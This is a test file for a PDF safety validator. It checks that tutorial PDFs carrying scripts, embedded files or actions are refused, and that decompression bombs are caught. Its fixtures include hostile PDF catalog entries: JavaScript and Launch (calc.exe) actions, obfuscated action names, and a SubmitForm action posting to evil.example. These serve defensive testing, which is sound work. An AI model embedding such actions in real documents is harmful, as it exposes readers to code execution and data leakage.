/** Tutorial PDFs: recognised by content, complete, and refused when they carry scripts, attachments or actions. */
import { describe, expect, it } from 'vitest'
import { pdfWith } from '../../test/pdf-files.ts'
import { ACTIVE_PDF, assertSafePdf, DAMAGED_PDF, NOT_A_PDF, PDF_TOO_LARGE_INSIDE } from './pdf-safety.ts'

const problem = (bytes: Buffer) => {
  try {
    assertSafePdf(bytes)
    return null
  } catch (error) {
    return (error as Error).message
  }
}

describe('assertSafePdf', () => {
  it('accepts a plain document', () => {
    expect(problem(pdfWith())).toBeNull()
  })

  it('judges by content: anything without the PDF header is not a PDF, a cut-off one is damaged', () => {
    expect(problem(Buffer.from('<html><script>alert(1)</script></html>'))).toBe(NOT_A_PDF)
    expect(problem(Buffer.concat([Buffer.from(' '), pdfWith()]))).toBe(NOT_A_PDF)
    const whole = pdfWith()
    expect(problem(whole.subarray(0, whole.length - 8))).toBe(DAMAGED_PDF)
  })

  it.each([
    ['/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'],
    ['/OpenAction << /S /Launch /F (calc.exe) >>'],
    ['/Names << /EmbeddedFiles 5 0 R >>'],
    ['/AcroForm << /XFA 6 0 R >>'],
    ['/AA << /O << /S /SubmitForm /F (https://evil.example) >> >>'],
    ['/OpenAction << /S /J#61vaScript /J#53 (x) >>'],
  ])('refuses active content in the raw file: %s', (catalog) => {
    expect(problem(pdfWith({ catalog }))).toBe(ACTIVE_PDF)
  })

  it('refuses active content hidden in a compressed (object) stream', () => {
    expect(problem(pdfWith({ streamed: '<< /S /JavaScript /JS (app.alert(1)) >>' }))).toBe(ACTIVE_PDF)
  })

  it('does not mistake longer names for active ones', () => {
    expect(problem(pdfWith({ catalog: '/JSONData (x) /Launcher 1' }))).toBeNull()
  })

  it('refuses a stream that unpacks to more than it may check (a decompression bomb)', () => {
    expect(problem(pdfWith({ streamed: ' '.repeat(51 * 1024 * 1024) }))).toBe(PDF_TOO_LARGE_INSIDE)
  })
})
